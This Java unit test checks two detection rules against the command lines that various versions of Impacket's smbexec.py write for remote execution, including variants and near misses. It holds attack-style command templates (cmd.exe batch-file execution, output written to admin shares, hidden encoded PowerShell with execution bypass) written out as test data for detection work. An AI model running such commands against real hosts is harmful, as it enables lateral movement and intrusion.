package dev.weir.content;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** The two detections of {@code conf/} against what each version of smbexec.py writes. */
class SmbexecDetectionsTest {
    private static final String CMD = "C:\\Windows\\system32\\cmd.exe /Q /c ";
    private static final String OLD_BATCH = "C:\\Windows\\TEMP\\execute.bat";
    private static final String BATCH = "C:\\Windows\\AbCdEfGh.bat";

    private static List<Pattern> published;
    private static List<Pattern> companion;

    @BeforeAll
    static void readPatterns() throws Exception {
        Content content = Content.load(List.of(ContentPack.folder(Path.of("conf"))));
        assertEquals(List.of(), content.problems());
        published =
                patterns(content, "Impacket Lateral Movement smbexec CommandLine Parameters", 5);
        companion = patterns(content, "Impacket Smbexec Service Command", 5);
    }

    /** What smbexec writes to run {@code typed}, with its variables as Windows expands them. */
    private static String line(String typed, String output, String batch) {
        return line(CMD, typed, output, batch, "");
    }

    private static String line(
            String shell, String typed, String output, String batch, String copy) {
        return shell
                + "echo "
                + typed
                + " ^> "
                + output
                + " 2^>^&1 > "
                + batch
                + " & "
                + shell
                + batch
                + copy
                + " & del "
                + batch;
    }

    static Stream<Arguments> commandLines() {
        String local = "\\\\127.0.0.1\\C$\\__output";
        String named = "\\\\HOST1\\C$\\__output";
        String random = "\\\\HOST1\\C$\\__output_qWeRtYuI";
        String encoded =
                "powershell.exe -NoP -NoL -sta -NonI -W Hidden -Exec Bypass -Enc JABQAHIAbwA=";
        String system = "C:\\Windows\\system32\\";
        return Stream.of(
                // releases 0.9.15 to 0.10.0
                row("0.9.15 opens", line("cd ", local, OLD_BATCH), false, true),
                row("0.9.15 runs", line("whoami", local, OLD_BATCH), false, true),
                row(
                        "0.10.0 another share",
                        line("cd ", "\\\\127.0.0.1\\ADMIN$\\__output", OLD_BATCH),
                        false,
                        true),
                row(
                        "0.10.0 TEMP elsewhere",
                        line("dir", local, "D:\\Temp\\execute.bat"),
                        false,
                        true),
                row("0.10.0 TEMP at the root", line("dir", local, "D:\\execute.bat"), false, true),
                row("0.9.23 powershell", line(encoded, local, OLD_BATCH), false, true),
                row(
                        "0.10.0 server",
                        line(
                                CMD,
                                "cd ",
                                local,
                                OLD_BATCH,
                                " & copy " + local + " \\\\10.0.0.9\\TMP"),
                        false,
                        true),
                // the development branch from 2023-02-16 to 2023-03-03
                row("2023-02 opens", line("cd ", local, BATCH), true, true),
                row("2023-02 runs", line("whoami", local, BATCH), false, true),
                // releases 0.11.0 and 0.12.0
                row("0.11.0 opens", line("cd ", named, BATCH), false, true),
                row("0.12.0 runs", line("echo coucou", named, BATCH), false, true),
                row("0.12.0 powershell", line(encoded, named, BATCH), false, true),
                row(
                        "0.12.0 server",
                        line(CMD, "cd ", named, BATCH, " & copy " + named + " \\\\fe80::1\\TMP"),
                        false,
                        true),
                row(
                        "0.12.0 variable left as it is",
                        line("cd ", "\\\\%COMPUTERNAME%\\C$\\__output", BATCH),
                        false,
                        true),
                row(
                        "0.12.0 other system folder",
                        line(
                                "D:\\WINNT\\system32\\cmd.exe /Q /c ",
                                "cd ",
                                named,
                                "D:\\WINNT\\zzYYxxWW.bat",
                                ""),
                        false,
                        true),
                // release 0.13.0
                row("0.13.0 opens", line("cd ", random, BATCH), false, true),
                row(
                        "0.13.0 runs what holds redirections",
                        line("type a.bat > b & ping 127.0.0.1 > c", random, BATCH),
                        false,
                        true),
                // the same attack otherwise delivered
                row(
                        "entities not decoded",
                        line("cd ", local, BATCH).replace("&", "&amp;").replace(">", "&gt;"),
                        true,
                        true),
                row("other case", line("cd ", local, BATCH).toUpperCase(Locale.ROOT), true, true),
                row("line break in it", line("cd \r\n ", named, BATCH), false, true),
                // what no version writes
                row("no /Q", line("cd ", local, BATCH).replace(" /Q", ""), false, false),
                row(
                        "only the second /Q",
                        line("cd ", local, BATCH).replaceFirst(" /Q", ""),
                        true,
                        false),
                row(
                        "powershell.exe",
                        line("cd ", local, BATCH).replace("cmd.exe", "powershell.exe"),
                        false,
                        false),
                row(
                        "xcmd.exe",
                        line(system + "xcmd.exe /Q /c ", "cd ", local, BATCH, ""),
                        true,
                        false),
                row("_output", line("cd ", local.replace("__", "_"), BATCH), false, false),
                row("___output", line("cd ", local.replace("__", "___"), BATCH), true, false),
                row("__output2", line("cd ", local + "2", BATCH), true, false),
                row("no echo", line("cd ", local, BATCH).replace("echo ", ""), false, false),
                row("nine letters", line("cd ", local, "C:\\Windows\\AbCdEfGhI.bat"), false, false),
                row("seven letters", line("cd ", local, "C:\\Windows\\AbCdEfG.bat"), true, false),
                row("a digit", line("cd ", local, "C:\\Windows\\AbCd3fGh.bat"), false, false),
                row(
                        "a folder below the system's",
                        line("cd ", local, "C:\\Windows\\Temp\\AbCdEfGh.bat"),
                        false,
                        false),
                row(
                        "another address",
                        line("cd ", "\\\\10.0.0.5\\C$\\__output", BATCH),
                        false,
                        false),
                row(
                        "a host's full name",
                        line("cd ", "\\\\host1.lab.local\\C$\\__output", BATCH),
                        false,
                        false),
                row("old batch, named host", line("cd ", named, OLD_BATCH), false, false),
                row("old batch, random output", line("cd ", random, OLD_BATCH), false, false),
                row(
                        "random output, loopback",
                        line("cd ", local + "_qWeRtYuI", BATCH),
                        true,
                        false),
                row(
                        "random output with a digit",
                        line("cd ", named + "_qWeRtYu1", BATCH),
                        false,
                        false),
                row(
                        "not deleted",
                        line("cd ", local, BATCH).replaceFirst(" & del.*", ""),
                        true,
                        false),
                row(
                        "wmiexec",
                        CMD + "cd  1> \\\\127.0.0.1\\ADMIN$\\__1600000000.1 2>&1",
                        false,
                        false),
                row(
                        "a quotation of it",
                        "cmd.exe /c echo " + line("cd ", local, BATCH),
                        true,
                        false));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("commandLines")
    void detectionsFireAsTheTableSays(
            String what, String process, boolean byPublished, boolean byCompanion) {
        assertEquals(byPublished, published.stream().allMatch(p -> found(p, process)), "published");
        assertEquals(byCompanion, companionFires(process), "companion");
    }

    @Test
    void eachNearMissOfThePublishedFailsItsOneCondition() {
        assertEquals(List.of(3), failing(line("cd ", "\\\\127.0.0.1\\C$\\__output", OLD_BATCH)));
        assertEquals(List.of(4), failing(line("cd ", "\\\\HOST1\\C$\\__output", BATCH)));
        assertEquals(List.of(1), failing(line("whoami", "\\\\127.0.0.1\\C$\\__output", BATCH)));
    }

    private static List<Integer> failing(String process) {
        List<Integer> failing = new ArrayList<>();
        for (int i = 0; i < published.size(); i++) {
            if (!found(published.get(i), process)) {
                failing.add(i);
            }
        }
        return failing;
    }

    /** The start, one of three ways to write and run the batch file, and the end. */
    private static boolean companionFires(String process) {
        return found(companion.get(0), process)
                && companion.subList(1, 4).stream().anyMatch(p -> found(p, process))
                && found(companion.get(4), process);
    }

    private static boolean found(Pattern pattern, String process) {
        return pattern.matcher(process).find();
    }

    private static Arguments row(
            String what, String process, boolean byPublished, boolean byCompanion) {
        return Arguments.of(what, process, byPublished, byCompanion);
    }

    private static List<Pattern> patterns(Content content, String name, int count) {
        Detection detection =
                content.detections().stream()
                        .filter(d -> d.name().equals(name))
                        .findFirst()
                        .orElseThrow();
        Matcher literals =
                Pattern.compile("match\\(process, ?\"((?:[^\"\\\\]|\\\\.)*)\"\\)")
                        .matcher(detection.search().text());
        List<Pattern> patterns = new ArrayList<>();
        while (literals.find()) {
            String decoded = literals.group(1).replaceAll("\\\\([\\\\\"])", "$1");
            patterns.add(Pattern.compile(decoded));
        }
        assertEquals(count, patterns.size());
        return patterns;
    }
}
